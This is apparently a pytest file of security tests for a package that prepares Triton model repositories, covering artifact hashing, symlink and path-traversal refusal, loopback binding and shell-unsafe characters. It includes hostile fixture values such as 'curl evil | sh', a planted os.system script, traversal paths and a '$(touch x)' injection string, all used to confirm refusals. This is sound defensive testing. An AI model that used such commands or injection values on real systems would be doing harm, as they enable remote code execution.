"""Security properties that must hold everywhere in the package."""
import ast
import re
from pathlib import Path

import pytest

from aitune_triton.triton.launch import Ports, ServerOptions, build_command

PACKAGE = Path(__file__).resolve().parents[1] / "aitune_triton"
TEMPLATES = Path(__file__).resolve().parents[1] / "templates"


def _calls(tree):
    return [n for n in ast.walk(tree) if isinstance(n, ast.Call)]


def test_no_shell_true_anywhere():
    offenders = []
    for path in list(PACKAGE.rglob("*.py")) + [Path(__file__).resolve().parents[1] / "benchmarks" / p
                                                for p in ("gpu_serving.py",)]:
        for call in _calls(ast.parse(path.read_text())):
            for kw in call.keywords:
                if kw.arg == "shell" and not (isinstance(kw.value, ast.Constant) and kw.value.value is False):
                    offenders.append("%s:%d" % (path, call.lineno))
    assert not offenders


def test_no_pickle_loads_in_package_or_templates():
    for path in list(PACKAGE.rglob("*.py")) + list(TEMPLATES.glob("*.j2")):
        text = path.read_text()
        assert "pickle.load" not in text, path
        for line in text.splitlines():
            if "torch.load(" in line:
                assert "weights_only=True" in line, "%s: %s" % (path, line.strip())


def test_server_binds_loopback_by_default():
    opts = ServerOptions()
    assert opts.host == "127.0.0.1"
    cmd = build_command(Path("/repo"), opts, Ports(1, 2, 3), binary=Path("/bin/tritonserver"),
                        backend_directory=Path("/b"), flags=frozenset())
    joined = " ".join(cmd)
    assert "--http-address=127.0.0.1" in joined and "--grpc-address=127.0.0.1" in joined
    assert "0.0.0.0" not in joined


def test_templates_use_strict_undefined():
    from jinja2 import StrictUndefined

    from aitune_triton.templating import template_env

    assert template_env().undefined is StrictUndefined


# ---------------------------------------------------------------- artifacts are checked before loading (issue 14)


def _model_dir(root: Path) -> Path:
    (root / "m" / "1").mkdir(parents=True)
    (root / "m" / "tensorrt").mkdir()
    (root / "m" / "1" / "model.py").write_text("print('model')\n")
    (root / "m" / "1" / "model.export.pt2").write_bytes(b"PK\x03\x04 weights")
    (root / "m" / "tensorrt" / "build_plan.sh").write_text("trtexec ...\n")
    (root / "m" / "config.pbtxt").write_text('name: "m"\n')  # tuned and hand-edited by design: not hashed
    return root / "m"


def test_artifact_hashes_cover_version_dirs_and_staged_files(tmp_path):
    from aitune_triton.integrity import artifact_hashes, sha256_file

    model = _model_dir(tmp_path)
    (model / "1" / "__pycache__").mkdir()
    (model / "1" / "__pycache__" / "model.cpython-311.pyc").write_bytes(b"bytecode")  # written by the stub
    hashes = artifact_hashes(model)
    assert sorted(hashes) == ["1/model.export.pt2", "1/model.py", "tensorrt/build_plan.sh"]
    assert hashes["1/model.py"] == sha256_file(model / "1" / "model.py") and len(hashes["1/model.py"]) == 64


@pytest.mark.parametrize("tamper,message", [
    (lambda m: (m / "1" / "model.export.pt2").write_bytes(b"PK\x03\x04 payload"),
     "1/model.export.pt2 does not match its recorded SHA-256"),
    (lambda m: (m / "1" / "model.py").unlink(), "1/model.py is missing"),
    (lambda m: (m / "1" / "extra.pt").write_bytes(b"x"), "1/extra.pt was added after generate"),
    (lambda m: (m / "tensorrt" / "build_plan.sh").write_text("curl evil | sh\n"), "tensorrt/build_plan.sh does not"),
])
def test_changed_artifacts_are_refused(tmp_path, tamper, message):
    from aitune_triton.errors import ModelError
    from aitune_triton.integrity import artifact_hashes, verify_artifacts

    model = _model_dir(tmp_path)
    recorded = artifact_hashes(model)
    verify_artifacts(model, recorded)
    (model / "config.pbtxt").write_text('name: "m"\nmax_batch_size: 4\n')
    verify_artifacts(model, recorded)  # config edits are allowed
    tamper(model)
    with pytest.raises(ModelError, match="refusing to load .*%s" % re.escape(message)):
        verify_artifacts(model, recorded)


def test_a_manifest_without_hashes_is_refused_not_a_warning(tmp_path):
    """An empty or missing ``files`` would turn the check off: it fails instead."""
    from aitune_triton.errors import ModelError
    from aitune_triton.integrity import verify_artifacts

    with pytest.raises(ModelError, match="records no artifact hashes"):
        verify_artifacts(_model_dir(tmp_path), {})


ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture
def cnn(tmp_path) -> Path:
    """A copy of the committed generated model, in a repository of its own."""
    import shutil

    shutil.copytree(ROOT / "model_repository" / "cnn", tmp_path / "repo" / "cnn")
    return tmp_path / "repo" / "cnn"


def _outside(cnn: Path) -> Path:
    evil = cnn.parents[1] / "x"
    evil.mkdir(exist_ok=True)
    (evil / "evil.py").write_text("import os\nos.system('touch /tmp/pwned')\n")
    (evil / "secret.txt").write_text("TOPSECRET token\n")
    (evil / "secret.txt").chmod(0o600)
    return evil


def _shadow_runtime_dir(m: Path) -> None:
    (m.parent.parent / "x" / "pkg").mkdir()
    (m.parent.parent / "x" / "pkg" / "__init__.py").write_text("raise SystemExit('foreign')\n")
    (m / "1" / "aitune_runtime").symlink_to(m.parent.parent / "x" / "pkg")


@pytest.mark.parametrize("tamper, message", [
    (_shadow_runtime_dir, "1/aitune_runtime is a symlink"),
    (lambda m: (m / "1" / "helper.py").symlink_to(m / "1" / "model.py"), "1/helper.py is a symlink"),
    (lambda m: ((m / "config.pbtxt").unlink(), (m / "config.pbtxt").symlink_to(m.parents[1] / "x" / "secret.txt")),
     "config.pbtxt is a symlink"),
    (lambda m: ((m / "manifest.json").unlink(), (m / "manifest.json").symlink_to(m.parents[1] / "x" / "secret.txt")),
     "manifest.json is a symlink"),
    (lambda m: (m / " 3").mkdir(), "directory ' 3' is read by Triton as version 3"),
    (lambda m: (m / "+2x").mkdir(), "directory '\\+2x' is read by Triton as version 2"),
    (lambda m: (m / "01").mkdir(), "directory '01' is read by Triton as version 1"),
])
def test_symlinks_and_version_dirs_triton_would_read_are_refused_before_reading(cnn, tamper, message):
    from aitune_triton.errors import ModelError
    from aitune_triton.triton.model_check import verify_model

    _outside(cnn)
    verify_model(cnn)
    tamper(cnn)
    with pytest.raises(ModelError, match="refusing to load .*%s" % message) as info:
        verify_model(cnn)
    assert "TOPSECRET" not in str(info.value) and "\n" not in str(info.value)


def test_bytecode_caches_beside_the_checked_sources_are_dropped_before_loading(cnn):
    """A planted .pyc whose header matches aitune_runtime.py's size and mtime would run instead of
    the checked source: the caches go before every load."""
    from aitune_triton.triton.model_check import verify_model

    cache = cnn / "1" / "__pycache__"
    cache.mkdir()
    (cache / "aitune_runtime.cpython-311.pyc").write_bytes(b"planted")
    verify_model(cnn)
    assert not cache.exists() and (cnn / "1" / "aitune_runtime.py").exists()


def test_a_model_dir_symlinked_out_of_the_repository_is_refused(cnn, tmp_path):
    from aitune_triton.errors import ModelError
    from aitune_triton.triton.model_check import verify_model

    (cnn.parent / "alias").symlink_to(cnn)  # inside the repository: the same checked files
    verify_model(cnn.parent / "alias")
    cnn.rename(tmp_path / "elsewhere")
    (cnn.parent / "cnn").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(ModelError, match="cnn is a symlink to .*elsewhere, outside the repository"):
        verify_model(cnn)


@pytest.mark.parametrize("line, message", [
    ('default_model_filename: "../../../x/evil.py"', "default_model_filename '../../../x/evil.py' is not a file"),
    ('default_model_filename: "/tmp/x/evil.py"', "default_model_filename '/tmp/x/evil.py' is not a file"),
    ('cc_model_filenames { key: "8.0" value: "../m.plan" }', r"cc_model_filenames\[8.0\] '../m.plan'"),
    ('parameters { key: "EXECUTION_ENV_PATH" value { string_value: "/tmp/x/env.tar.gz" } }',
     "EXECUTION_ENV_PATH '/tmp/x/env.tar.gz' is not a file inside the model directory"),
    ('parameters { key: "EXECUTION_ENV_PATH" value { string_value: "$$TRITON_MODEL_DIRECTORY/../../x/e.tgz" } }',
     "EXECUTION_ENV_PATH"),
    ('parameters { key: "OTHER" value { string_value: "$$TRITON_MODEL_DIRECTORY/../x" } }',
     "parameter OTHER .* outside the model directory"),
    ('model_repository_agents { agents { name: "checksum" } }', "adds repository agents"),
])
def test_a_config_naming_files_outside_its_version_directory_is_refused(cnn, line, message):
    from aitune_triton.errors import ModelError
    from aitune_triton.triton.model_check import verify_model

    config = cnn / "config.pbtxt"
    config.write_text(config.read_text() + line + "\n")
    with pytest.raises(ModelError, match="refusing to load .*%s" % message):
        verify_model(cnn)


@pytest.mark.parametrize("backend", ['backend: "pyhton"', 'backend: "onnxruntime"', 'platform: "tensorrt_plan"'])
def test_a_backend_other_than_the_generated_one_is_refused(cnn, backend):
    from aitune_triton.errors import ModelError
    from aitune_triton.triton.model_check import verify_model

    config = cnn / "config.pbtxt"
    config.write_text(config.read_text().replace('backend: "python"', backend))
    with pytest.raises(ModelError, match="config.pbtxt names backend .* generated for the 'python' backend"):
        verify_model(cnn)


ENV_LINE = 'parameters { key: "EXECUTION_ENV_PATH" value { string_value: "$$TRITON_MODEL_DIRECTORY/%s" } }\n'


def test_an_execution_environment_must_be_a_recorded_artifact(cnn):
    """A tarball planted beside the hashed files is neither hashed nor reported as added: the config
    may only point the stub at one the manifest records (what pack-env writes)."""
    from aitune_triton.errors import ModelError
    from aitune_triton.triton.manifest import Manifest
    from aitune_triton.triton.model_check import verify_model

    config = cnn / "config.pbtxt"
    original = config.read_text()
    (cnn / "evil.tar.gz").write_bytes(b"\x1f\x8b planted")
    config.write_text(original + ENV_LINE % "evil.tar.gz")
    with pytest.raises(ModelError, match=r"refusing to load .*EXECUTION_ENV_PATH '\$\$TRITON_MODEL_DIRECTORY/"
                                         r"evil.tar.gz' names a file the manifest does not record"):
        verify_model(cnn)
    (cnn / "python_env.tar.gz").write_bytes(b"\x1f\x8b packed")  # as pack-env leaves it: recorded
    Manifest.load(cnn).sealed(cnn).save(cnn)
    config.write_text(original + ENV_LINE % "python_env.tar.gz")
    verify_model(cnn)


def test_a_packed_environment_is_an_artifact(cnn):
    from aitune_triton.errors import ModelError
    from aitune_triton.triton.model_check import verify_model

    (cnn / "python_env.tar.gz").write_bytes(b"\x1f\x8b not from pack-env")
    with pytest.raises(ModelError, match="python_env.tar.gz was added after generate"):
        verify_model(cnn)


@pytest.mark.parametrize("text,bad", [("/srv/models/repo-1.0", []), ("/tmp/inj$(touch x)", ["$", "(", " ", ")"]),
                                      ("/a'b`c\"d", ["'", "`", '"']), ("/m;n|o&p", [";", "|", "&"]),
                                      ("/modèles/ünï", [])])
def test_shell_unsafe_chars(text, bad):
    from aitune_triton.triton.repository import shell_unsafe_chars

    assert shell_unsafe_chars(text) == bad
